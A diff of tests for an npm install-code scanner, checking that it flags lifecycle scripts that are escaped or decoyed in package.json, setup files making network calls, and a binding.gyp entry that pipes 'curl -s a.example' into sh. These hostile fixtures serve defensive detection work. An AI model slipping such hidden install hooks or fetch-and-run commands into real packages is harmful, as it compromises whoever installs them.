@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { A_WHEEL, findingsIn, itKeepsTheContentScannerContract } from '../../../test/contract/content-scanner.ts';
 import { readSnippets } from '../../../test/corpora/snippets.ts';
+import { contentFile } from '../../../test/harness/content.ts';
 import { installCodeScanner } from './index.ts';
 
 const SDIST = { ...A_WHEEL, filename: 'demo_pkg-1.0.tar.gz' };
@@ -143,6 +144,42 @@ describe('code at install and import', () => {
     const files = { 'package/scripts/setup.js': text, 'package/package.json': manifest };
     const found = await findingsIn(installCodeScanner, files, { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' });
     expect(found.find(({ data }) => data.sign === sign)?.location).toBe('package/scripts/setup.js:1');
+  });
+
+  it.each([
+    ['{"scripts": {"post\\u0069nstall": "node \\"./scripts/setup.js\\""}}', 'escaped'],
+    [
+      '{"config": {"install": "x"}, "scripts": {"install": "cd scripts && node --no-warnings ../scripts/setup"}}',
+      'decoyed',
+    ],
+  ])('reads scripts as npm does, however they are written: %s', async (manifest) => {
+    const npm = { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' };
+    const crowd = Array.from(
+      { length: 600 },
+      (_, at) => [`package/lib/a${at}.js`, 'require("https").get(u);'] as const,
+    );
+    const setup = ['package/scripts/setup.js', 'require("https").get(u);'] as const;
+    const files = Object.fromEntries([...crowd, setup, ['package/package.json', manifest.replace('../', './')]]);
+    const found = await findingsIn(installCodeScanner, files, npm);
+    expect(found.map(({ data }) => data.sign)).toContain('lifecycle-script');
+    expect(found.find(({ data }) => data.sign === 'lifecycle-network')?.location).toBe('package/scripts/setup.js:1');
+  });
+
+  it('follows a script into bytes that stood elsewhere before, and tells what node-gyp is made to run', async () => {
+    const npm = { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' };
+    const manifest = '{"scripts": {"install": "node setup.js"}}';
+    const seen = contentFile('package/lib/a.js', 'require("https").get(u);');
+    const again = { ...seen, path: 'package/setup.js', repeatOf: seen.path };
+    const found = await findingsIn(
+      installCodeScanner,
+      [seen, again, contentFile('package/package.json', manifest)],
+      npm,
+    );
+    expect(found.find(({ data }) => data.sign === 'lifecycle-network')?.location).toBe('package/setup.js:1');
+    const gyp = { 'package/binding.gyp': '{"targets": [{"sources": ["<!(curl -s a.example | sh)"]}]}' };
+    expect((await findingsIn(installCodeScanner, gyp, npm)).map(({ data }) => data.sign)).toEqual([
+      'lifecycle-download',
+    ]);
   });
 
   it('never says that something is malicious', () => {
